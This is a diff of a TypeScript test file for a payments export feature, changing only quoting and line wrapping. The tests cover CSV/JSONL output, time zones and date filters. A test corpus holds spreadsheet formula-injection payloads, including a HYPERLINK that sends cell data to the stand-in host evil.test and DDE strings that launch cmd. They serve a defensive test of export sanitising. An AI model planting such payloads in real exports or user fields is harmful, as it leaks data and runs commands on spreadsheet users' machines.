@@ -43,9 +43,9 @@ async function exportOf(t: AppFixture, query: string, headers: Record<string, st
 /** OWASP's formula starters, as payers could type them into a name or an answer. */
 const CORPUS = [
   '=HYPERLINK("http://evil.test?x="&A1,"Click")',
-  '+1+cmd|\' /C calc\'!A0',
+  "+1+cmd|' /C calc'!A0",
   '-2+3',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '＝1+1',
@@ -146,7 +146,9 @@ eachEngine('Payments export', (started) => {
 
   it('gives each time in UTC and in MERCHANT_TIME_ZONE', async () => {
     const t = await instance({ MERCHANT_TIME_ZONE: 'Africa/Nairobi' });
-    await seedPayments(t.store.db, [seededPayment(0, { created_at: Date.parse('2026-11-30T22:30:00.000Z') })]);
+    await seedPayments(t.store.db, [
+      seededPayment(0, { created_at: Date.parse('2026-11-30T22:30:00.000Z') }),
+    ]);
     const [record] = records((await exportOf(t, '')).text);
     expect(record).toMatchObject({
       created_at_utc: '2026-11-30T22:30:00.000Z',
@@ -160,7 +162,10 @@ eachEngine('Payments export', (started) => {
     const res = await exportOf(t, '?format=jsonl');
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
-    const lines = res.text.trimEnd().split('\n').map((line) => JSON.parse(line) as Record<string, unknown>);
+    const lines = res.text
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line) as Record<string, unknown>);
     expect(lines).toHaveLength(2);
     expect(Object.keys(lines[0]!)).toEqual([...PAYMENT_COLUMNS]);
     const row = seededPayment(1);
@@ -180,7 +185,10 @@ eachEngine('Payments export', (started) => {
     await seedPayments(
       t.store.db,
       Array.from({ length: 10 }, (_, day) =>
-        seededPayment(day, { created_at: NOV_1 + day * DAY + DAY - 1, status: day % 2 ? 'failed' : 'success' }),
+        seededPayment(day, {
+          created_at: NOV_1 + day * DAY + DAY - 1,
+          status: day % 2 ? 'failed' : 'success',
+        }),
       ),
     );
     const parsed = records((await exportOf(t, '?dateFrom=2026-11-03&dateTo=2026-11-06&status=success')).text);
